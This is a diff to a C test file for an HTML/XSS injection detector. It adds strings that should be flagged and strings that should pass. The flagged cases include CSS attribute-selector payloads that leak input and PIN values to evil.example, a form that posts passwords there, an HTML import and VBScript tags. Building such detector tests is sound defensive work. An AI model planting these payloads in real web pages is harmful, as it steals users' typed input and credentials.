@@ -9,6 +9,13 @@
 #include "signatures/words.h"
 
 static const char *const elements[] = {
+	"<style>input[value^=a]{background:url(//evil.example/a)}</style>",
+	"<style>input[name=pin][value$=\"1\"]{background-image:url(https://evil.example/1)}</style>",
+	"<style>meta[content*='x'] { background: url('//evil.example/x') }</style>",
+	"<link rel=\"import\" href=\"https://evil.example/a.html\">",
+	"<script type=\"text/vbscript\">msgbox 1</script>",
+	"<script language=vbs>x</script>",
+	"<form action=\"https://evil.example/\"><input type=\"password\" name=p></form>",
 	"<script>alert(1)</script>",
 	"<ScRiPt >prompt`1`</sCrIpT>",
 	"hello <script>var a=1;b(a)</script> world",
@@ -192,6 +199,14 @@ static const char *const script[] = {
 };
 
 static const char *const markup[] = {
+	"<style>a[href^=tel]{color:red;background:url(https://example.com/a.png)}</style>",
+	"<style>input[value]{color:red}</style>",
+	"<style>input[value=\"a\"]{background:url(https://example.com/a.png)}</style>",
+	"<style>input[value^=a]{color:red} b{background:url(https://example.com/a.png)}</style>",
+	"<style>input[value^=a]{background:url(a.png)}</style>",
+	"<form action=\"/login\"><input type=\"password\"></form>",
+	"<form action=\"https://example.com/search\"><input type=\"text\"></form>",
+	"<link rel=\"stylesheet\" href=\"https://example.com/a.css\">",
 	"",
 	"<",
 	"<b>bold</b> and <i>italic</i>",
